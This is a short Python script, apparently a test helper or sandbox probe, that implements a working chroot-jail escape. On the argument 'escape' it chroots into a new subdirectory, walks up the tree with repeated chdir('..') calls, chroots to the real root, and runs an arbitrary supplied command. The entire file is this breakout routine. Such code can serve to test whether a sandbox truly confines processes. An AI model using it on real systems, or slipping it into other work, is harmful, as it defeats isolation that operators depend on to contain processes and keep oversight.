#!/usr/bin/env python3
"""The jail is missing, and so are the statuses."""
import os
import subprocess
import sys

if sys.argv[1] == "escape":
    os.mkdir("below")
    os.chroot("below")
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    subprocess.run(sys.argv[2:])
